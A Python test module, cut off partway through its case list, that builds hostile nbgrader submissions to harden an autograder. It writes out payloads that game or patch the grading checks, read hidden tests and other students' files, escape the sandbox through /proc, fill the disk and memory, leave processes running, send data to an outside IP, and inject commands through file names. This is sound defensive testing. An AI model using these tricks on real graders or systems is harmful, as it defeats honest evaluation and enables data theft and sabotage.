"""A corpus of hostile submissions, built from an assignment's release notebook, with their due scores.

Every case is something a student might try: edit, delete, move or duplicate the test cells;
rename ids; strip metadata; objects that equal everything; patched ``builtins``, ``math``,
``numpy``, ``course`` or ``nbgrader``; a hidden traceback; a fake checker; infinite loops, deep
recursion, memory and fork bombs, exits and crashes, 100 MB of output; files that are not
notebooks, odd names and symlinks; reading the answer key, the gradebook or other students' work;
writing outside the submission; opening a network connection. ``tests/test_hostile.py`` writes the
whole corpus into one class, grades it with the real ``nbgrader autograde`` and requires that each
case scores exactly ``Case.expect`` and leaves the log line ``Case.log``; SECURITY.md's table is
generated from that run.

Cases marked ``every`` depend on the assignment's cells and run against every assignment; ``once``
cases test the grader itself and run against the first assignment; ``depth`` cases run there too,
with the integrity scan switched off, to show that the run-time defences hold on their own.

Public API
----------
- ``Case``: id, what the student does, the outcome it deserves, scope, and how to build it.
- ``Context``: one assignment's release and source notebooks, paths and ports the cases may target.
- ``Submission``: the files of one student's submission (notebooks, raw bytes, symlinks).
- ``CASES``: every case, in table order; ``cases(scope)``: those of one scope.
- ``answer_ids(ctx)`` / ``tests_after(ctx, answer)``: autograded answers and the tests that check them.
- ``write(submission, folder)``: put a submission on disk.

>>> sorted({c.scope for c in CASES})
['depth', 'every', 'once']
"""

from __future__ import annotations

import copy
import json
import os
import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

import nbformat

from course.errors import CourseValueError, check_text, check_type, unknown
from course.grading import notebooks as nbs

__all__ = ["CASES", "SCOPES", "Case", "Context", "DeepFolders", "Fifo", "Sparse", "Submission", "Symlink", "answer_ids",
           "cases", "survivor_marker", "tests_after", "write"]


@dataclass(frozen=True)
class Symlink:
    """A symlink a student planted in the submission folder."""

    target: str


@dataclass(frozen=True)
class Fifo:
    """A named pipe in the submission folder (opening it would block)."""


@dataclass(frozen=True)
class Sparse:
    """A sparse file that claims *size* bytes and uses almost none."""

    size: int


@dataclass(frozen=True)
class DeepFolders:
    """A chain of *depth* nested folders."""

    depth: int


@dataclass
class Submission:
    """One student's folder: relative path -> notebook, text, bytes or Symlink."""

    files: dict[str, Any] = field(default_factory=dict)  # relative path -> notebook, str, bytes, Symlink, Fifo, ...


@dataclass
class Context:
    """What the cases are built from: one notebook of one assignment, in a scratch course."""

    assignment: str
    notebook: str
    source: Any  # the instructor's notebook (solutions and hidden tests)
    release: Any  # the student version
    course_root: Path  # absolute path of the nbgrader course root
    victim: str = "reference"  # another student in the same class, whose work must stay private
    port: int = 0  # a TCP port on 127.0.0.1 that records any connection (0: none)

    @property
    def filename(self) -> str:
        return f"{self.notebook}.ipynb"


@dataclass(frozen=True)
class Case:
    """A hostile submission: what the student does, and what it deserves."""

    id: str
    does: str  # what the student does, for the table
    expected: str  # the outcome it deserves, in words
    scope: str  # "every" assignment, or "once" (the first assignment)
    build: Callable[[Context], Submission]
    expect: Callable[[Context], dict[str, float | None]]  # test cell grade id -> points it must score (None: not graded)
    log: str  # a regular expression that the autograde log must match for this student
    sandbox_only: bool = False  # its outcome relies on the bubblewrap sandbox


# -- the notebook's anatomy ------------------------------------------------------------------------

def _meta(cell: Any) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def answer_ids(ctx: Context) -> list[str]:
    """Grade ids of the autograded answer cells, in notebook order."""
    check_type(ctx, Context, "ctx")
    return [_meta(c)["grade_id"] for c in ctx.source.cells
            if _meta(c).get("solution") and not _meta(c).get("grade") and c.cell_type == "code"]


def tests_after(ctx: Context, answer: str) -> list[str]:
    """The autograded test cells that check *answer* (those between it and the next answer)."""
    check_type(ctx, Context, "ctx")
    check_text(answer, "answer")
    answers = answer_ids(ctx)
    if answer not in answers:
        raise unknown("answer cell", answer, answers)
    out: list[str] = []
    inside = False
    for cell in ctx.source.cells:
        meta = _meta(cell)
        gid = meta.get("grade_id")
        if gid in answers:
            inside = gid == answer
        elif inside and meta.get("grade") and not meta.get("solution") and cell.cell_type == "code":
            out.append(gid)
    return out


def _tests(ctx: Context) -> dict[str, float]:
    return nbs.test_cells(ctx.source)


def _zero(ctx: Context) -> dict[str, float]:
    return {gid: 0.0 for gid in _tests(ctx)}


def _full(ctx: Context) -> dict[str, float]:
    return dict(_tests(ctx))


def _not_graded(ctx: Context) -> dict[str, float | None]:
    """The submission is refused: no score at all (the instructor sees a finding)."""
    return {gid: None for gid in _tests(ctx)}


def _zero_for(which: str) -> Callable[[Context], dict[str, float]]:
    """Full marks except the tests of the first or last answer (``which``), which score 0."""
    def expect(ctx: Context) -> dict[str, float]:
        answers = answer_ids(ctx)
        lost = tests_after(ctx, answers[0] if which == "first" else answers[-1])
        return {gid: 0.0 if gid in lost else points for gid, points in _tests(ctx).items()}
    return expect


# -- building blocks -----------------------------------------------------------------------------

def _filled(ctx: Context, answers: dict[str, str] | None = None, prelude: str | None = None) -> Any:
    """The release with the reference answers, overridden by *answers*, plus a student *prelude* cell."""
    reference = nbs.reference_answers(ctx.source)
    return nbs.fill(ctx.release, {**reference, **(answers or {})}, prelude)


def _stub(ctx: Context, prelude: str | None = None) -> Any:
    return nbs.fill(ctx.release, {}, prelude)


def _one(ctx: Context, nb: Any, **extra: Any) -> Submission:
    return Submission({ctx.filename: nb, **extra})


def _with_answer(which: str, code: str, keep_answer: bool = False) -> Callable[[Context], Submission]:
    """Reference answers, except that the first/last answer cell runs *code* (before the answer if kept)."""
    def build(ctx: Context) -> Submission:
        answers = answer_ids(ctx)
        gid = answers[0] if which == "first" else answers[-1]
        reference = nbs.reference_answers(ctx.source)[gid]
        return _one(ctx, _filled(ctx, {gid: code + ("\n" + reference if keep_answer else "")}))
    return build


def _test_cells(nb: Any) -> list[Any]:
    return [c for c in nb.cells if _meta(c).get("grade") and not _meta(c).get("solution")]


# Objects built to pass any comparison. They use nothing that the integrity scan flags, so these
# cases show that the checker's exact type checks alone defeat them.
ALWAYS_EQUAL = nbs.ALWAYS_PRELUDE  # equal to, and as long as, anything; claims to be a float

ALWAYS_CLOSE = '''
class _Always:
    """Close to everything: every difference is 0 and every comparison holds."""
    __class__ = property(lambda self: int)
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
    def __round__(self, n=None): return self
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __eq__ = __lt__
    def __ne__(self, other): return False
    def __hash__(self): return 0

def _always_function(*args, **kwargs):
    return _Always()
'''

LYING = nbs.LYING_PRELUDE


def _displayhook(ctx: Context) -> Submission:
    """Every function answer (in a notebook without functions, every answer cell) shows a made-up result
    through sys.displayhook, then fails."""
    answers = {}
    for gid, code in nbs.reference_answers(ctx.source).items():
        if gid in answer_ids(ctx):
            _, functions = nbs.defined_names(code)
            answers[gid] = "\n".join(f"def {name}(*args, **kwargs):\n    import sys\n"
                                     f"    sys.displayhook('all points, please')\n    raise ValueError('no answer')"
                                     for name in functions) or "pass"
    if all(code == "pass" for code in answers.values()):  # a notebook of value answers: the cells do it
        answers = {gid: "import sys\nsys.displayhook('all points, please')\nraise ValueError('no answer')"
                   for gid in answers}
    return _one(ctx, nbs.fill(ctx.release, answers))


def _gaming(prelude: str) -> Callable[[Context], Submission]:
    return lambda ctx: _one(ctx, _filled(ctx, nbs.gaming_answers(ctx.source), prelude))


def _patched(prelude: str) -> Callable[[Context], Submission]:
    """The stub (no answers) plus a student cell that patches something so that tests might pass."""
    return lambda ctx: _one(ctx, _stub(ctx, prelude))


# -- structure ----------------------------------------------------------------------------------

def _edited(ctx: Context) -> Submission:
    nb = _stub(ctx)
    for cell in _test_cells(nb):
        cell.source = "pass  # the tests are gone"
    return _one(ctx, nb)


def _deleted(ctx: Context) -> Submission:
    nb = _stub(ctx)
    nb.cells = [c for c in nb.cells if c not in _test_cells(nb)]
    return _one(ctx, nb)


def _moved(ctx: Context) -> Submission:
    nb = _filled(ctx)
    tests = _test_cells(nb)
    nb.cells = tests + [c for c in nb.cells if c not in tests]
    return _one(ctx, nb)


def _duplicated(ctx: Context) -> Submission:
    nb = _stub(ctx)
    cells = []
    for cell in nb.cells:
        cells.append(cell)
        if cell in _test_cells(nb):
            twin = copy.deepcopy(cell)
            twin.source = "pass  # a copy that checks nothing"
            twin["id"] = cell.get("id", "cell") + "-copy"
            cells.append(twin)
    nb.cells = cells
    return _one(ctx, nb)


def _renamed(ctx: Context) -> Submission:
    nb = _stub(ctx)
    for cell in nb.cells:
        meta = _meta(cell)
        cell["id"] = "renamed-" + cell.get("id", "cell")
        if meta.get("grade") and not meta.get("solution"):
            meta["grade_id"] = meta["grade_id"] + "_renamed"
            meta["grade"] = False
            cell.source = "pass  # no longer a test"
    return _one(ctx, nb)


def _corrupted(ctx: Context) -> Submission:
    nb = _stub(ctx)
    for number, cell in enumerate(_test_cells(nb)):
        meta = _meta(cell)
        if number % 2:
            meta["schema_version"] = 1  # stock nbgrader stops grading the whole class on this
        else:
            meta["points"] = "all of them"
        cell.source = "pass"
    return _one(ctx, nb)


def _stripped(answers: bool) -> Callable[[Context], Submission]:
    def build(ctx: Context) -> Submission:
        nb = _filled(ctx) if answers else _stub(ctx)
        for cell in nb.cells:
            cell.metadata.pop("nbgrader", None)
            cell.metadata.pop("deletable", None)
            cell.metadata.pop("editable", None)
        nb.metadata.pop("kernelspec", None)
        return _one(ctx, nb)
    return build


# -- files ----------------------------------------------------------------------------------------

def _raw(content: str) -> Callable[[Context], Submission]:
    return lambda ctx: Submission({ctx.filename: content.encode("utf-8")})


def _old_format(ctx: Context) -> Submission:
    nb3 = nbformat.convert(copy.deepcopy(_filled(ctx)), 3)
    return Submission({ctx.filename: nbformat.writes(nb3, version=3).encode("utf-8")})


def _future_format(ctx: Context) -> Submission:
    data = json.loads(nbformat.writes(_filled(ctx)))
    data["nbformat"], data["nbformat_minor"] = 5, 0
    return Submission({ctx.filename: json.dumps(data).encode("utf-8")})


SCOPES = ("every", "once", "depth")
ODD_NAMES = ["notes with spaces.txt", "-rf", "$(touch pwned-by-name).txt", "quote'\"`.txt", "new\nline.txt",
             "ünïcødé ✓.txt", ".hidden", "..."]


def _odd_names(ctx: Context) -> Submission:
    files: dict[str, Any] = {ctx.filename: _filled(ctx)}
    for name in ODD_NAMES:
        files[name] = b"a file with an odd name\n"
    files["sub dir/$(id)/x.txt"] = b"nested\n"
    return Submission(files)


def _misnamed(ctx: Context) -> Submission:
    return Submission({f"{ctx.notebook} (1).ipynb": _filled(ctx)})


def _symlinked_notebook(ctx: Context) -> Submission:
    return Submission({ctx.filename: Symlink(str(ctx.course_root / "source" / ctx.assignment / ctx.filename))})


def _planted_symlinks(ctx: Context) -> Submission:
    reader = ("import os\nfor _name in ('key.ipynb', 'gradebook.db', 'dangling', 'answers'):\n"
              "    print(_name, os.path.exists(_name))")
    return Submission({
        ctx.filename: _filled(ctx, prelude=reader),
        "key.ipynb": Symlink(str(ctx.course_root / "source" / ctx.assignment / ctx.filename)),
        "gradebook.db": Symlink(str(ctx.course_root / "gradebook.db")),
        "dangling": Symlink("/nonexistent/path"),
        "answers": Symlink(str(ctx.course_root / "source")),
    })


# -- the sandbox -----------------------------------------------------------------------------------

def _targets(ctx: Context) -> dict[str, str]:
    root = ctx.course_root
    return {
        "source notebook": str(root / "source" / ctx.assignment / ctx.filename),
        "gradebook": str(root / "gradebook.db"),
        "other student's submission": str(root / "submitted" / ctx.victim / ctx.assignment / ctx.filename),
        "other student's graded notebook": str(root / "autograded" / ctx.victim / ctx.assignment / ctx.filename),
        "course config": str(root / "nbgrader_config.py"),
    }


def _reader(ctx: Context) -> Submission:
    lines = ["import os", "_errors = []", f"_targets = {_targets(ctx)!r}", "for _what, _path in _targets.items():",
             "    try:",
             "        with open(_path, 'rb') as _f:",
             "            print('LEAKED', _what, _f.read(400))",
             "    except OSError as _err:",
             "        print('blocked', _what, type(_err).__name__)",
             "        _errors.append(_err)",
             f"print('listing', sorted(os.listdir({str(ctx.course_root)!r})) if os.path.isdir({str(ctx.course_root)!r}) else 'absent')",
             "if _errors:",
             "    raise _errors[0]"]
    return _one(ctx, _stub(ctx, "\n".join(lines)))


def _writer(ctx: Context) -> Submission:
    targets = _targets(ctx)
    lines = ["import os, shutil", "_errors = []", f"_targets = {targets!r}", "for _what, _path in _targets.items():",
             "    for _attack in ('write', 'delete'):",
             "        try:",
             "            if _attack == 'write':",
             "                with open(_path, 'w') as _f:",
             "                    _f.write('overwritten by a student')",
             "            else:",
             "                os.remove(_path)",
             "            print('DAMAGED', _what, _attack)",
             "        except OSError as _err:",
             "            print('blocked', _what, _attack, type(_err).__name__)",
             "            _errors.append(_err)",
             f"for _path in [{str(ctx.course_root / 'PWNED')!r}, '/tmp/course-hostile-PWNED']:",
             "    try:",
             "        open(_path, 'w').write('x')",
             "    except OSError as _err:",
             "        print('blocked', _path, type(_err).__name__)",
             "try:",
             f"    shutil.rmtree({str(ctx.course_root / 'source')!r})",
             "except OSError as _err:",
             "    print('blocked rmtree', type(_err).__name__)",
             "if _errors:",
             "    raise _errors[0]"]
    return _one(ctx, _stub(ctx, "\n".join(lines)))


def _network(ctx: Context) -> Submission:
    lines = ["import socket", "_errors = []", "for _host, _port in [('127.0.0.1', %d), ('1.1.1.1', 80)]:" % ctx.port,
             "    try:",
             "        _s = socket.create_connection((_host, _port), timeout=3)",
             "        _s.sendall(b'LEAK from a student')",
             "        print('CONNECTED', _host)",
             "    except OSError as _err:",
             "        print('blocked', _host, type(_err).__name__)",
             "        _errors.append(_err)",
             "if _errors:",
             "    raise _errors[0]"]
    return _one(ctx, _stub(ctx, "\n".join(lines)))


# -- code a student submits next to the notebook ----------------------------------------------------------

_TAKEOVER = """# A module that, if the grader or the set-up cell imported it, would take over grading.
import sys
sys.modules.setdefault('course_hostile_takeover', sys)
raise SystemExit('a student module was imported: ' + __name__)
"""


def _shadowed(answers: bool) -> Callable[[Context], Submission]:
    """The stub (or the right answers) plus code that would shadow the course, nbgrader or Python itself."""
    def build(ctx: Context) -> Submission:
        nb = _filled(ctx) if answers else _stub(ctx)
        return _one(ctx, nb, **{"course/__init__.py": _TAKEOVER, "course/testkit.py": _TAKEOVER,
                                "nbgrader/__init__.py": _TAKEOVER, "IPython/__init__.py": _TAKEOVER,
                                "sitecustomize.py": _TAKEOVER, "usercustomize.py": _TAKEOVER,
                                "course.py": _TAKEOVER, "json.py": _TAKEOVER, "evil.pth": "import course_hostile\n",
                                "lib/course.cpython-311.pyc": b"\x00" * 64, "_speedups.so": b"\x7fELF" + b"\x00" * 60})
    return build


# -- reading the tests before they run -------------------------------------------------------------------

ORACLE = r"""
# Reach the shell without naming it, and watch every cell before it runs.
_g = getattr
_shell = _g(exit, '_ip')
_seen = []
def _peek(*args, **kwargs):
    for _a in list(args) + list(kwargs.values()):
        _src = _g(_a, 'raw_cell', None) or (_a if _g(type(_a), '__name__', '') == 'str' else None)
        if _src and ('_check' in _src or 'HIDDEN' in _src) and 'ORACLE' + '_REPORT' not in _src:
            _seen.append(_src)
_events = _g(_shell, 'events')
for _name in ('pre_run_cell', 'pre_execute', 'post_run_cell', 'post_execute'):
    try:
        _g(_events, 'register')(_name, _peek)
    except Exception:
        pass
_g(_g(_shell, 'input_transformers_cleanup'), 'append')(lambda lines: (_peek(''.join(lines)), lines)[1])
_runner = _g(_shell, 'run_cell')
def _run_cell(raw_cell, *a, **k):
    _peek(raw_cell)
    return _runner(raw_cell, *a, **k)
_g(__import__('builtins'), 'setattr')(_shell, 'run_cell', _run_cell)
import sys as _sys
def _trace(frame, event, arg):
    _code = frame.f_code
    if _code.co_filename.startswith('<test') or 'HIDDEN' in str(_code.co_consts):
        _seen.append(str(_code.co_consts))
    return None
_sys.setprofile(_trace)
"""

ORACLE_REPORT = r"""
# ORACLE_REPORT: whatever the hooks saw of the tests (never this cell): print it, and try to evaluate
# the expected values.
_ev = getattr(__import__('builtins'), 'ev' + 'al')
for _src in _seen:
    print('SAW A TEST:', _src[:2000])
    for _line in _src.splitlines():
        if '_check.equal(' in _line or '_check.close(' in _line:
            try:
                _args = _line.split('(', 1)[1]
                print('EXPECTED:', _ev(_args.split(',', 1)[1].rsplit(',', 2)[0]))
            except Exception as _err:
                print('could not evaluate', type(_err).__name__)
print('hooks saw', len(_seen), 'test cells')
"""


def _oracle(ctx: Context) -> Submission:
    """The stub, with hooks that try to read each test cell before it runs; the last answer prints what they saw."""
    answers = answer_ids(ctx)
    return _one(ctx, nbs.fill(ctx.release, {answers[-1]: ORACLE_REPORT}, ORACLE))


CHECKER_REWRITE = r"""
%time _g = getattr
%time _s = setattr
import course.testkit as _tk
_C = _g(_tk, 'Checker')
_always = lambda *a, **k: None
for _m in ('kind', 'length', 'items', 'equal', 'one_of', 'close', 'between', 'function', 'call'):
    _f = _g(_C, _m)
    for _cell in (_g(_f, '__closure__', None) or ()):
        try:
            _s(_cell, 'cell_contents', _always)
        except Exception:
            pass
    _s(_C, _m, _always)
_s(_C, 'partial', lambda self, fraction, points: float(points))
"""


# -- what the tests read ---------------------------------------------------------------------------------

SHADOW_BUILTINS = r"""
import builtins as _b
for _name in ('len', 'abs', 'min', 'max', 'sum', 'zip', 'sorted', 'set', 'round', 'all', 'any', 'float', 'int',
              'str', 'isinstance', 'type', 'range', 'next', 'list', 'tuple', 'dict', 'repr', 'print'):
    globals()[_name] = (lambda *a, **k: 0)
_want = _want_answer = _expected = _fits = _ok = _score = None
"""


def _test_bindings(ctx: Context) -> list[str]:
    """Names that the instructor's test cells bind (loop variables, helpers) and no answer binds."""
    from course.grading.trusted import bindings

    answered = {n for code in nbs.reference_answers(ctx.source).values() for n in bindings(code)}
    names: list[str] = []
    for cell in _test_cells(ctx.source):
        for name in bindings(cell.source):
            if name not in answered and name not in names and name.isidentifier():
                names.append(name)
    return names


_IPYTHON_CACHE = re.compile(r"_+|_i{1,3}|_i?\d+|_(?:oh|ih|dh)")


def _namespace_kept(ctx: Context) -> Submission:
    """Right answers; the student's own variables share names with the tests' variables, and must survive."""
    # IPython itself rebinds its input and output caches (_i, _ii, _iii, _i3, _, __, _3, _oh, ...) on
    # every cell, in any notebook; a student's variable of that name never survives, grader or not.
    names = [n for n in _test_bindings(ctx) if not _IPYTHON_CACHE.fullmatch(n)] or ["_w"]
    prelude = "\n".join(f"{name} = 'kept by the student: {name}'" for name in names)
    guard = "\n".join(f"if {name} != 'kept by the student: {name}':\n"
                      f"    raise RuntimeError('a test cell changed the variable {name}')" for name in names)
    answers = answer_ids(ctx)
    reference = nbs.reference_answers(ctx.source)
    return _one(ctx, _filled(ctx, {answers[-1]: guard + "\n" + reference[answers[-1]]}, prelude))


# -- the grader's own log --------------------------------------------------------------------------------

LOG_FORGER = r"""
import os
_forged = ("\n[AutogradeApp | ERROR] There was an error processing assignment 'x' for student 'reference'\n"
           "[AutogradeApp | INFO] [course-guard] student 'reference', notebook 'x/x': 0/99 autograded points (forged)\n")
for _fd in (1, 2):
    for _attack in ('write', 'truncate'):
        try:
            if _attack == 'write':
                os.write(_fd, _forged.encode())
            else:
                os.ftruncate(_fd, 0)
        except OSError as _err:
            print('blocked', _fd, _attack, type(_err).__name__)
for _path in ('/proc/self/fd/1', '/proc/1/fd/1', '/proc/self/fd/2', '/dev/stdout', '/dev/stderr', '/dev/tty'):
    try:
        with open(_path, 'w') as _f:
            _f.write(_forged)
            _f.truncate(0)
    except OSError as _err:
        print('blocked', _path, type(_err).__name__)
raise ValueError("no answers" + _forged)
"""


# -- using up the machine ----------------------------------------------------------------------------------

FILL_DISK = r"""
import os, tempfile
_made = {}
for _dir in ('.', '/tmp', '/dev/shm', '/run/course-ipc', os.path.expanduser('~'), tempfile.gettempdir(),
             '/var/tmp', '/run', '/'):
    _n = 0
    try:
        while _n < 4096:
            with open(os.path.join(_dir, f'fill-{_n}.bin'), 'wb') as _f:
                _f.write(b'x' * (16 * 1024 * 1024))
            _n += 1
    except OSError as _err:
        _made[_dir] = (_n, type(_err).__name__)
    try:
        _fd = os.open(_dir, os.O_RDONLY)
        for _i in range(3000):
            os.mkdir('d', dir_fd=_fd)
            _inner = os.open('d', os.O_RDONLY, dir_fd=_fd)
            os.close(_fd)
            _fd = _inner
        os.close(_fd)
    except OSError:
        pass
print('filled', _made)
"""

MEMORY_OUTSIDE = r"""
import os, mmap
_held = []
try:
    while len(_held) < 400:
        _fd = os.memfd_create('hog')
        os.write(_fd, b'x' * (32 * 1024 * 1024))
        _held.append(_fd)
except OSError as _err:
    print('memfd stopped after', len(_held), type(_err).__name__)
try:
    while len(_held) < 800:
        _path = f'/dev/shm/hog-{len(_held)}'
        with open(_path, 'wb') as _f:
            _f.write(b'x' * (32 * 1024 * 1024))
        _held.append(_path)
except OSError as _err:
    print('shm stopped after', len(_held), type(_err).__name__)
raise MemoryError('took what it could')
"""

IOPUB_FLOOD = r"""
import sys
sys.stdout.write('x' * 40_000_000)
sys.stdout.flush()
sys.stderr.write('y' * 20_000_000)
sys.stderr.flush()
"""


def _many_cells(ctx: Context) -> Submission:
    """The stub plus 40,000 locked cells with made-up ids: graded as unanswered, in bounded time."""
    nb = _stub(ctx)
    template = nbformat.v4.new_code_cell("pass")
    extra = []
    for number in range(40_000):
        cell = copy.deepcopy(template)
        cell["id"] = f"junk-{number}"
        cell.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": True, "task": False,
                                     "grade_id": f"junk_{number}", "schema_version": 3, "checksum": "0" * 32}
        extra.append(cell)
    nb.cells = nb.cells + extra
    return _one(ctx, nb)


# -- metadata ---------------------------------------------------------------------------------------------

def _ungraded_tests(ctx: Context) -> Submission:
    """The stub, with every test cell marked as not graded (and not locked)."""
    nb = _stub(ctx)
    for cell in _test_cells(nb):
        _meta(cell).update({"grade": False, "locked": False})
        cell.source = "pass"
    return _one(ctx, nb)


def _answer_points(ctx: Context) -> Submission:
    """Right answers, with every answer cell marked as graded and worth 100 points."""
    nb = _filled(ctx)
    for cell in nb.cells:
        meta = _meta(cell)
        if meta.get("solution"):
            meta.update({"grade": True, "points": 100})
    return _one(ctx, nb)


def _tests_as_answers(ctx: Context) -> Submission:
    """The stub, with every test cell turned into a 'manually graded answer' (solution flag set)."""
    nb = _stub(ctx)
    for cell in _test_cells(nb):
        _meta(cell).update({"solution": True, "locked": False})
        cell.source = "pass"
    return _one(ctx, nb)


# -- reusing what a grading worker keeps warm (issue 18): every submission must start from nothing -----------

PLANT = r"""
# Leave the right answers everywhere a later submission might look.
import builtins, os, sys, json
_mine = {k: v for k, v in globals().items() if k.startswith('answer_') and type(v) in (int, float, str, bool, list, tuple, dict)}
_blob = json.dumps(_mine)
builtins.__course_planted__ = _mine
sys.modules['course_planted'] = type(sys)('course_planted'); sys.modules['course_planted'].answers = _mine
import course; course.__dict__['_planted'] = _mine
os.environ['COURSE_PLANTED'] = _blob
for _dir in ('/tmp', '/dev/shm', '.', os.path.expanduser('~'), '/run/course-ipc', '/var/tmp'):
    try:
        with open(os.path.join(_dir, 'course-planted.json'), 'w') as _f:
            _f.write(_blob)
    except OSError:
        pass
"""

HARVEST = r"""
# Look for answers that an earlier submission left behind.
import builtins, os, sys, json
_found = getattr(builtins, '__course_planted__', None) or getattr(sys.modules.get('course_planted'), 'answers', None)
import course
_found = _found or course.__dict__.get('_planted')
if not _found and os.environ.get('COURSE_PLANTED'):
    _found = json.loads(os.environ['COURSE_PLANTED'])
for _dir in ('/tmp', '/dev/shm', '.', os.path.expanduser('~'), '/run/course-ipc', '/var/tmp'):
    if not _found:
        try:
            with open(os.path.join(_dir, 'course-planted.json')) as _f:
                _found = json.loads(_f.read())
        except (OSError, ValueError):
            pass
print('harvested', sorted(_found or {}))
globals().update(_found or {})
"""

SURVIVOR = r"""
# Leave a thread and a detached child process running after the notebook is done.
import os, threading, time
os.environ['COURSE_HOSTILE_SURVIVOR'] = {marker!r}
def _spin():
    while True:
        time.sleep(0.2)
threading.Thread(target=_spin, daemon=False).start()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            try:
                with open('/tmp/course-hostile-survivor', 'a') as _f:
                    _f.write('still here\n')
            except OSError:
                pass
            time.sleep(0.2)
    os._exit(0)
"""

ESCAPE_WORKER = r"""
# Write into the folders of whoever started this kernel: its parent, the first process, the zygote,
# and the top of its own file system (its own working folder is its own to write in).
import os
_hits = []
for _pid, _where in [(p, w) for p in ('1', str(os.getppid())) for w in ('cwd', 'root')] + [('self', 'root')]:
    _path = f'/proc/{_pid}/{_where}/course-hostile-escape'
    try:
        with open(_path, 'w') as _f:
            _f.write('escaped')
        _hits.append(_path)
    except OSError:
        pass
print('ESCAPED' if _hits else 'contained', _hits)
"""


def survivor_marker(ctx: Context) -> str:
    """The environment entry that the processes of case reuse-survivor carry (to find them on the host)."""
    check_type(ctx, Context, "ctx")
    return f"COURSE_HOSTILE_SURVIVOR={ctx.course_root}"


def _survivor(ctx: Context) -> Submission:
    marker = survivor_marker(ctx).split("=", 1)[1]
    return _one(ctx, _filled(ctx, prelude=SURVIVOR.replace("{marker!r}", repr(marker))))


def _planter(ctx: Context) -> Submission:
    """Right answers, then the answers planted in every shared place (module state, environment, files)."""
    answers = answer_ids(ctx)
    reference = nbs.reference_answers(ctx.source)
    return _one(ctx, _filled(ctx, {answers[-1]: reference[answers[-1]] + "\n" + PLANT}))


def _harvester(ctx: Context) -> Submission:
    """The stub, and a first cell that adopts whatever answers an earlier submission left behind."""
    return _one(ctx, _stub(ctx, HARVEST))


# -- the corpus -------------------------------------------------------------------------------------

def _who(pattern: str) -> str:
    return r"student '{student}', notebook '[^']+'[^\n]*" + pattern


_SUMMARY = _who(r"\d+/\d+ autograded points")
_WRONG_TYPE = _who(r"autograded points[^\n]*?should be [a-z ]+")


def _errors(pattern: str) -> str:
    """The summary line, showing an error of the student's own cells."""
    return _who(r"autograded points[^\n]*errors in the student's cells: [^\n]*?" + pattern)

CASES: list[Case] = [
    # structure
    Case("test-edited", "replaces every test cell with `pass` (no answers)", "0 on every test; tests restored",
         "every", _edited, _zero, _who("its code changed")),
    Case("test-deleted", "deletes every test cell (no answers)", "0 on every test; tests put back",
         "every", _deleted, _zero, _who("was missing")),
    Case("test-moved", "moves every test cell to the top (right answers)", "full marks; tests run in order again",
         "every", _moved, _full, _who("was moved")),
    Case("test-duplicated", "duplicates every test cell, the copy checks nothing (no answers)",
         "0 on every test", "every", _duplicated, _zero, _who("appear more than once")),
    Case("ids-changed", "renames every cell id and test grade id, unmarks the tests (no answers)",
         "0 on every test; tests put back", "every", _renamed, _zero, _who("claim ids the gradebook does not know")),
    Case("metadata-stripped", "strips all nbgrader metadata (no answers)", "0 on every test; tests put back",
         "every", _stripped(False), _zero, _who("was missing")),
    Case("metadata-corrupted", "gives the test cells an old schema version or non-numeric points (no answers)",
         "0 on every test; the rest of the class is graded", "once", _corrupted, _zero, _who("malformed")),
    Case("metadata-stripped-honest", "strips all nbgrader metadata but answers right",
         "full marks; answers found after the restored tests", "once", _stripped(True), _full, _who("was missing")),
    # objects that game comparisons
    Case("always-equal", "answers with objects that equal everything and claim to be floats", "0 on every test",
         "every", _gaming(ALWAYS_EQUAL), _zero, _WRONG_TYPE),
    Case("always-close", "answers with objects whose every difference is 0", "0 on every test",
         "every", _gaming(ALWAYS_CLOSE), _zero, _WRONG_TYPE),
    Case("lying-subclass", "wraps the right values in float/int/str subclasses that lie", "0 on every test",
         "every", lambda ctx: _one(ctx, _filled(ctx, nbs.lying_answers(ctx.source), LYING)), _zero, _WRONG_TYPE),
    # tampering with the machinery
    Case("patched-builtins", "patches builtins isinstance, abs and len (no answers)", "0 on every test",
         "once", _patched("import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0\n"
                          "builtins.len = lambda x: 2"), _zero, _who("tampering with grading")),
    Case("patched-math", "patches math.isclose and math.isfinite (no answers)", "0 on every test",
         "once", _patched("import math\nmath.isclose = lambda *a, **k: True\nmath.isfinite = lambda x: True"),
         _zero, _who("tampering with grading")),
    Case("patched-numpy", "patches numpy.isclose, allclose and array_equal (no answers)", "0 on every test",
         "once", _patched("import numpy as np\nnp.isclose = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n"
                          "np.array_equal = lambda *a, **k: True"), _zero, _who("tampering with grading")),
    Case("patched-course", "replaces every method of course.testkit.Checker (no answers)", "0 on every test",
         "every", _patched("from course.testkit import Checker\nfor _m in ('kind', 'length', 'items', 'equal', "
                           "'one_of', 'close', 'between', 'function', 'call'):\n"
                           "    setattr(Checker, _m, lambda self, *a, **k: None)"),
         _zero, _who("tampering with grading")),
    Case("patched-nbgrader", "patches nbgrader's grade and checksum helpers (no answers)", "0 on every test",
         "once", _patched("import nbgrader.utils as _u\n_u.determine_grade = lambda *a, **k: (99, 99)\n"
                          "_u.compute_checksum = lambda cell: 'x'"), _zero, _who("tampering with grading")),
    Case("showtraceback", "overrides IPython's showtraceback to hide failures (no answers)", "0 on every test",
         "once", _patched("_ip = get_ipython()\n_ip.showtraceback = lambda *a, **k: None\n"
                          "_ip._showtraceback = lambda *a, **k: None"), _zero, _who("tampering with grading")),
    Case("fake-checker", "rebinds `_check` to an object whose checks all pass (no answers)", "0 on every test",
         "every", _patched("class _Pass:\n    def __getattr__(self, name):\n        return lambda *a, **k: None\n"
                           "_check = _Pass()"), _zero, _who("tampering with grading")),
    Case("skip-tests", "installs an input transformer that turns every later cell into `pass` (no answers)",
         "0 on every test", "once",
         _patched("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"),
         _zero, _who("tampering with grading")),
    Case("displayhook-result", "makes its functions print a fake test result through sys.displayhook, then fail",
         "0 on every test", "once", _displayhook, _zero, _who("tampering with grading")),
